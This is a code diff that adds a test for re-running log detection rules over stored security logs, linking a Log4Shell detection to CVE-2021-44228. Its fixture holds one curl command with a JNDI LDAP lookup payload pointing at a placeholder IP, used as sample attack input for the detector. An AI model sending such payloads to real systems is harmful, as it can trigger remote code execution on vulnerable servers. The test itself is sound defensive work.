@@ -4,11 +4,13 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import yauzl from "yauzl";
 import { neo4jSecurityGraph } from "../../layers/adapters/neo4j/security-graph";
 import { type KevEntry, toKevRow } from "../../layers/core/feeds/kev-catalog";
+import { DETECTION_RULES } from "../../layers/core/security-logs/detection-rules";
 import {
   DEFAULT_INGEST_OPTIONS,
   ingestLogObject,
   ingestS3Event,
   type LogObjectSummary,
+  redetect,
   type SecurityLogStore,
 } from "../../layers/core/security-logs/ingest-log-object";
 import { buildClients, closeClients } from "../../layers/runtime/clients";
@@ -559,6 +561,62 @@ describe("detections linked to KEV, object versions and late metadata (hand-writ
     expect(versions).toEqual([
       { etag: v2.etag, status: "loaded" },
       { etag: v1.etag, status: "superseded" },
+    ]);
+  });
+
+  it("runs the current rules again over loaded versions, skipping superseded ones (redetect)", async () => {
+    // Loaded while the rules had no JNDI rule: nothing found then.
+    const withoutJndi = {
+      ...DETECTION_RULES,
+      digest: "before-jndi",
+      rules: DETECTION_RULES.rules.filter((r) => r.id !== "log4shell-jndi-lookup"),
+    };
+    const jndiLine = (line: number) =>
+      sysmonLine("WEB02", line, {
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
+        CommandLine: "curl -H 'X-Api-Version: ${jndi:ldap://198.51.100.9/a}' http://app",
+      });
+    const old = await box.put("raw-logs/redetect/a.json", jndiLine(1));
+    const ref = await box.put("raw-logs/redetect/a.json", [jndiLine(1), jndiLine(2)].join("\n"));
+    const stale = box.deps({ rules: withoutJndi });
+    await ingestLogObject(stale, old);
+    await ingestLogObject(stale, ref);
+    expect(await box.count("detections", "object_key = $1", [ref.key])).toBe(0);
+    const before = box.graph.vulnerabilities.length;
+
+    const done = await redetect(box.deps(), box.bucket, "raw-logs/redetect/");
+    expect(done).toEqual([{ key: ref.key, etag: ref.etag, outcome: "redetected", before: 0, detections: 1 }]);
+    const rows = await box.rows(
+      "SELECT etag, rule_id, cve_id, evidence_count, rules_digest FROM {detections} WHERE object_key = $1",
+      [ref.key],
+    );
+    expect(rows).toEqual([
+      {
+        etag: ref.etag,
+        rule_id: "log4shell-jndi-lookup",
+        cve_id: "CVE-2021-44228",
+        evidence_count: 2,
+        rules_digest: DETECTION_RULES.digest,
+      },
+    ]);
+    const ledger = await box.rows("SELECT etag, status, detections FROM {objects} WHERE object_key = $1", [
+      ref.key,
+    ]);
+    expect(ledger).toEqual(
+      expect.arrayContaining([
+        { etag: ref.etag, status: "loaded", detections: 1 },
+        { etag: old.etag, status: "superseded", detections: 0 },
+      ]),
+    );
+    expect(box.graph.vulnerabilities.slice(before).map((v) => [v.host, v.cve])).toEqual([
+      ["web02", "CVE-2021-44228"],
+    ]);
+    // A superseded version is never written to, even asked for directly (a newer one replaced it while the
+    // rules ran).
+    expect(await box.store().replaceDetections(old, [], DETECTION_RULES)).toBe(false);
+    // A second run finds the same and changes nothing.
+    expect(await redetect(box.deps(), box.bucket, "raw-logs/redetect/")).toEqual([
+      { key: ref.key, etag: ref.etag, outcome: "redetected", before: 1, detections: 1 },
     ]);
   });
 
